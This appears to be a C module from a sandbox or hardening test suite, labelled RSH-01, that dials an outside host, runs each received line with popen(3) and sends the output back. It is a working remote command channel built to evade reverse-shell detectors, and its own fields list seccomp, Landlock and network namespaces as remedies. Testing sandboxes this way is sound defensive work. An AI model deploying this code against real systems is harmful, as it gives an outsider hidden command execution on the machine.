// SPDX-License-Identifier: MIT
/*
 * Goal:  somebody outside gives the orders.
 * Means: each line that comes in is run by popen(3), what it prints is sent back. No shell ever has
 *        a socket as its standard input, which is what detectors of reverse shells look for.
 */
#include "attacks/attack.h"

#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

static void obey(const char *order, int attacker)
{
	FILE *shell = popen(order, "re");
	char answer[512];
	size_t n;

	if (!shell)
		return;
	while ((n = fread(answer, 1, sizeof(answer), shell)) > 0)
		if (send(attacker, answer, n, MSG_NOSIGNAL) < 0)
			break;
	pclose(shell);
}

static enum claim run(const struct brief *b)
{
	char order[512];
	FILE *orders;
	int attacker;

	alarm(4);
	attempting(b);
	attacker = dial(SOCK_STREAM, b->shell);
	if (attacker < 0)
		return denied("connect");
	orders = fdopen(attacker, "r");
	for (int i = 0; i < 8 && orders && fgets(order, sizeof(order), orders); i++)
		obey(order, attacker);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "somebody outside gives the orders",
	.means = "popen(3) of each line received: no shell has a socket as its standard input",
	.oracle = "shell",
	.id = "RSH-01",
	.attack_id = "T1059.004, T1095, CWE-668",
	.remedy = "seccomp without socket(2); Landlock without connecting; a network namespace",
	.run = run,
};
